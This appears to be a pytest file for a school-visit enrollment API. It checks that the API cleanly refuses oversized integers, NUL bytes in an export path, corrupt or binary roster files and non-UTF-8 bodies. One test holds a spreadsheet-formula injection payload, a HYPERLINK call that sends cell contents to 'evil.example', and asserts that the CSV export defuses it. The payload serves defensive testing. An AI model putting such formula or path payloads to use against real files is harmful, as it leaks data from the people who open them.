"""Inputs that used to end in a 500 or in nonsense: huge integers, a NUL in the export
target, broken or binary school files, spreadsheet formulas in a report, Starlette's own
refusals in one language only."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from fastapi.testclient import TestClient

from tests.test_domain_http import ROSTER, error_of, visit_id

HUGE = "9" * 25  # beyond SQLite's 64-bit integers


def test_integers_beyond_64_bits_are_refused_not_a_crash(
    client: TestClient, auth: dict[str, str]
) -> None:
    supervisor = {
        "Authorization": client.post(
            "/api/auth/login", json={"operator": "supervisor1", "pin": "246810"}
        ).json()["token"]
    }
    supervisor["Authorization"] = "Bearer " + supervisor["Authorization"]
    requests: list[tuple[str, str, Any]] = [
        ("GET", f"/api/visits/{HUGE}/enrollments", None),
        ("GET", f"/api/enrollment/{HUGE}/audit", None),
        ("GET", f"/api/receipts?enrollment_id={HUGE}", None),
        ("GET", f"/api/receipts/enrollments/{HUGE}/preview.png", None),
        ("POST", f"/api/receipts/enrollments/{HUGE}/reprint", None),
        ("GET", f"/api/reports/visits/{HUGE}", None),
        ("GET", f"/api/reports/visits/{HUGE}/export.csv", None),
        ("GET", f"/api/roster/visits/{HUGE}", None),
        ("POST", f"/api/roster/students/{HUGE}/status", {"status": "absent"}),
        ("POST", f"/api/roster/students/{HUGE}/pick", None),
        ("GET", f"/api/roster/visits/{HUGE}/consent-letter", None),
        ("PUT", f"/api/roster/visits/{HUGE}/consent-letter", {"reference": "421/123"}),
        ("POST", "/api/enrollment/start", {"visit_id": int(HUGE)}),
        ("GET", f"/api/technician/logs?limit={HUGE}", None),
    ]
    for method, path, body in requests:
        headers = supervisor if "technician" in path else auth
        response = client.request(method, path, json=body, headers=headers)
        assert error_of(response, 422)["code"] == "invalid_input", (method, path)
    refused = client.delete(f"/api/roster/visits/{HUGE}/niks", headers=supervisor)
    assert error_of(refused, 422)["code"] == "invalid_input"


def test_a_nul_in_the_export_target_is_refused(client: TestClient) -> None:
    supervisor = client.post(
        "/api/auth/login", json={"operator": "supervisor1", "pin": "246810"}
    ).json()["token"]
    response = client.post(
        "/api/upload/export",
        json={"mount_point": "/media/usb/\x00evil"},
        headers={"Authorization": f"Bearer {supervisor}"},
    )
    assert error_of(response, 422)["code"] == "invalid_input"


def import_bytes(client: TestClient, auth: dict[str, str], data: bytes) -> Any:
    return client.post(
        f"/api/roster/visits/{visit_id(client, auth)}/import",
        content=data,
        headers={**auth, "Content-Type": "text/csv"},
    )


def test_a_truncated_utf16_school_file_is_refused_clearly(
    client: TestClient, auth: dict[str, str]
) -> None:
    data = ROSTER.encode("utf-16")
    error = error_of(import_bytes(client, auth, data[:-1]), 422)
    assert error["code"] == "roster_unreadable" and "Unicode" in error["message"]["en"]
    # The whole file is fine.
    assert import_bytes(client, auth, data).json()["added"] == 3


def test_a_file_of_nul_bytes_imports_nobody(client: TestClient, auth: dict[str, str]) -> None:
    error = error_of(import_bytes(client, auth, b"\x00" * 4000), 422)
    assert error["code"] == "roster_unreadable" and "binary" in error["message"]["en"]
    queued = client.get(f"/api/roster/visits/{visit_id(client, auth)}", headers=auth).json()
    assert queued["students"] == []


@pytest.mark.parametrize("lead", ["=", "+", "-", "@"])
def test_report_exports_cannot_carry_a_spreadsheet_formula(
    client: TestClient, auth: dict[str, str], lead: str
) -> None:
    school = lead + 'HYPERLINK("http://evil.example/?"&A1,"klik")'
    visit = client.post(
        "/api/visits", json={"school": school, "date": "2026-12-07"}, headers=auth
    ).json()["id"]
    text = client.get(f"/api/reports/visits/{visit}/export.csv", headers=auth).text
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert any(c.startswith("'" + school) for c in cells), cells  # kept, shown as text
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))], cells


def test_a_body_that_is_not_utf8_is_refused_in_both_languages(client: TestClient) -> None:
    response = client.post(
        "/api/auth/login",
        content=b'{"operator": "\xff", "pin": "1"}',
        headers={"Content-Type": "application/json"},
    )
    assert response.status_code == 400
    message = response.json()["error"]["message"]
    assert message["id"] != message["en"] and "dibaca" in message["id"]
